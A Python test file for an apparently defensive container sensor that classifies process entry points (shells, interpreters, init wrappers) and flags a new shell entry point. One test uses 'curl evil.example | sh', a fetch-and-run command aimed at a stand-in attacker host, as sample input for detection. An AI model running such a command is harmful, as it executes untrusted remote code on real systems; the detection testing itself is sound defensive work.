"""An entry point is what runs, not what starts it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sensor.judge.entry_point import NAME_MAX, STARTERS, entry_point, runs_scripts
from sensor.model.alert import Alert
from sensor.model.vocabulary import Finding
from tests.judge.past import DAY, alerts_of, known_node, web
from tests.judge.samples import NOW


@pytest.mark.parametrize(
    ("command", "name", "shell"),
    [
        (("/bin/sh", "-c", "x"), "sh -c", True),
        (("bash", "-ec", "x"), "sh -c", True),
        (("/bin/bash",), "sh", True),
        (("/usr/bin/python3.11", "app.py"), "python", True),
        (("node", "x.js"), "node", True),
        (("/app/server", "-c"), "server", False),
        (("/docker-entrypoint.sh",), "docker-entrypoint.sh", False),
        (("7z",), "7z", False),
        (("123",), "123", False),
        (("bash", "-euo", "pipefail", "-c", "x"), "sh -c", True),
        (("bash", "-o", "pipefail", "script"), "sh", True),
        (("bash", "--norc", "script"), "sh", True),
        (("bash", "--rcfile", "/x", "-lc", "x"), "sh -c", True),
        (("sh", "script.sh", "-c"), "sh", True),
        (("/sbin/docker-init", "--", "/app/server"), "server", False),
        (("/sbin/docker-init", "--", "sh", "-c", "x"), "sh -c", True),
        (("tini", "-g", "-p", "SIGTERM", "--", "python3", "x.py"), "python", True),
        (("/usr/bin/tini-static", "bash"), "sh", True),
        (("dumb-init", "--rewrite", "15:2", "--", "node", "x.js"), "node", True),
        (("/run/podman-init", "--", "sleep", "1"), "sleep", False),
        (("/usr/bin/env", "bash", "-c", "x"), "sh -c", True),
        (("env", "-i", "-u", "HOME", "A=b", "perl"), "perl", True),
        (("docker-init", "--", "env", "A=b", "tini", "--", "sh"), "sh", True),
        (("tini",), "tini", False),
        (("tini", "--"), "tini", False),
        (("env", "A=b"), "env", False),
        (("/bin/busybox", "httpd", "-f", "-c", "/x"), "httpd", False),
        (("busybox", "sh", "-c", "x"), "sh -c", True),
        (("busybox",), "sh", True),
        (("tini",) * 9, "tini", False),
        (("env", ""), "env", False),
        ((), None, False),
        (None, None, False),
    ],
)
def test_an_entry_point_is_a_program_name_and_whether_it_is_a_shell(
    command: tuple[str, ...] | None,
    name: str | None,
    shell: bool,
) -> None:
    assert entry_point(command) == (name, shell)


WORDS = st.one_of(
    st.sampled_from([*STARTERS, "sh", "bash", "-c", "-o", "--", "-", "A=b", ""]),
    st.text(max_size=9),
)


@given(st.lists(WORDS, max_size=90))
def test_any_command_line_has_a_bounded_name(command: list[str]) -> None:
    name, shell = entry_point([*command, "x" * 400])
    assert name is None or len(name) <= 6 * NAME_MAX
    assert not shell or (name is not None and runs_scripts(name))


def found(*command: str) -> list[Alert]:
    judge = known_node()
    for day in range(4):
        judge.judge(web("/sbin/docker-init", "--", "/app/server", at=NOW + day * DAY))
    judge.take_alerts()
    judge.judge(web(*command, at=NOW + 5 * DAY))
    return [one for one in alerts_of(judge) if one.finding is Finding.NEW_ENTRYPOINT]


def test_a_shell_behind_an_init_is_new_where_there_was_none() -> None:
    assert found("/sbin/docker-init", "--", "sh", "-c", "curl evil.example | sh")
    assert not found("/sbin/docker-init", "--", "/app/server")
    assert not found("/app/server")
